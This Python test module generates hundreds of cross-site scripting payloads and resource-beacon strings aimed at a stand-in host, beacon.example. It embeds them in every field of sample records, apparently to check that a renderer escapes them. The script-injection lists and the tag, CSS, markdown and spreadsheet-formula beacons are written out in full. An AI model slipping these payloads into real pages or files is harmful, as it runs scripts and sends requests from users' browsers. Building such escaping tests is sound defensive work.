"""Texts that would run a script or ask a stranger, were they ever taken for markup.

Each stands alone: `alert()` is counted by the visitor, and so is every request to another host.
"""

from itertools import product

BEACON = "https://beacon.example"

_TAGS = (
    '<img src=x {on}="{do}">',
    "<img src=x {on}={do}>",
    "<svg {on}={do}>",
    "<svg><animate {on}={do} attributeName=x dur=1s>",
    "<body {on}={do}>",
    "<video src=x {on}={do}></video>",
    "<input autofocus {on}={do}>",
    "<details open {on}={do}>x</details>",
    "<iframe {on}={do}></iframe>",
    "<marquee {on}={do}>x</marquee>",
    "<x tabindex=1 id=x {on}={do}>x</x>",
    '"><img src=x {on}={do}>',
)
_EVENTS = ("onerror", "onload", "onfocus", "onbegin", "ontoggle", "onstart", "ONERROR")
_RUN = ("alert(1)", "window.alert`1`", "&#97;lert(1)")

_ALONE = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script>",
    "<script type=module>alert(1)</script>",
    "<math><mtext></p><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    "<template><script>alert(1)</script></template>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=&#106;avascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:/alert(1)//>",
    "[x](javascript:alert(1))",
    "[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '![x](x "onerror=alert(1)")',
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "[[${alert(1)}]]",
    "{% raw %}{{alert(1)}}{% endraw %}",
    "';alert(1)//",
    '";alert(1)//',
    "\\';alert(1)//",
    "\u2028alert(1)\u2029",
    "<\u0000script>alert(1)</script>".replace("\u0000", ""),
    "＜script＞alert(1)＜/script＞",
    "<img src=x onerror=\u0061lert(1)>",
    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=alert(1)>x</b>",
    "<b style='width:expression(alert(1))'>x</b>",
    "<xss id=x onfocus=alert(1) tabindex=1>#x",
    "\u202e<script>alert(1)</script>\u202c",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07",
)

_BEACONS = (
    "<img src={to}>",
    '<img srcset="{to} 1x">',
    "<picture><source srcset={to}><img></picture>",
    "<video poster={to}></video>",
    "<audio src={to} autoplay></audio>",
    "<video><track default src={to}></video>",
    "<iframe src={to}></iframe>",
    "<object data={to}></object>",
    "<embed src={to}>",
    "<script src={to}></script>",
    "<link rel=stylesheet href={to}>",
    "<link rel=prefetch href={to}>",
    "<link rel=preload as=image href={to}>",
    "<link rel=dns-prefetch href={to}>",
    "<link rel=preconnect href={to}>",
    "<link rel=icon href={to}>",
    "<link rel=manifest href={to}>",
    "<style>*{{background:url({to})}}</style>",
    "<style>@import '{to}';</style>",
    "<style>@font-face{{font-family:x;src:url({to})}}*{{font-family:x}}</style>",
    "<b style='background:url({to})'>x</b>",
    "<b style='list-style-image:url({to});display:list-item'>x</b>",
    "<table background={to}><tr><td background={to}>x</table>",
    "<body background={to}>",
    "<input type=image src={to}>",
    "<svg><image href={to} /></svg>",
    "<svg><image xlink:href={to} /></svg>",
    "<svg><use href={to}#x /></svg>",
    "<svg><filter><feImage href={to} /></filter></svg>",
    "<math href={to}>x</math>",
    "<meta http-equiv=refresh content='0;url={to}'>",
    "<form action={to}><input autofocus name=x></form>",
    "<a href={to} ping={to}>x</a>",
    "<portal src={to}></portal>",
    "<base href={to}>",
    "![x]({to})",
    "[![x]({to})]({to})",
    "![x][1]\n\n[1]: {to}",
    "<{to}>",
    '[x]({to} "x")',
    "@import url({to});",
    '=IMAGE("{to}")',
    '=HYPERLINK("{to}";"x")',
    '=WEBSERVICE("{to}")',
)


def payloads():
    """All of them, each once."""
    made = [tag.format(on=on, do=do) for tag, on, do in product(_TAGS, _EVENTS, _RUN)]
    asked = [
        text.format(to=f"{start}{place}")
        for place, text in enumerate(_BEACONS)
        for start in (f"{BEACON}/", "//beacon.example/")
    ]
    return list(dict.fromkeys([*_ALONE, *asked, *made]))


CONTEXTS = 24
"""Texts of one sample that stand each in an element of its own, beside the named fields."""


def hostile_samples():
    """Samples that hold every payload, each in a text of its own."""
    waiting = payloads()
    filler = iter(waiting)
    found = []
    while True:
        texts = [text for _, text in zip(range(CONTEXTS + 7), filler, strict=False)]
        if not texts:
            return found
        query, response, expected, step, tool, tag, fact, *contexts = (
            *texts,
            *waiting[: CONTEXTS + 7 - len(texts)],
        )
        found.append(
            {
                "id": f"hostile-{len(found):02} {response[:60]}",
                "query": query,
                "response": response,
                "expected": expected,
                "steps": [step],
                "tool_calls": [{"name": tool, "arguments": {tool: tool}}],
                "tags": [tag],
                "known_facts": [fact],
                "contexts": [{"content": text, "source": text} for text in contexts],
                "metadata": {tag: fact},
                "conversation": [{"role": tag, "content": fact}],
            }
        )
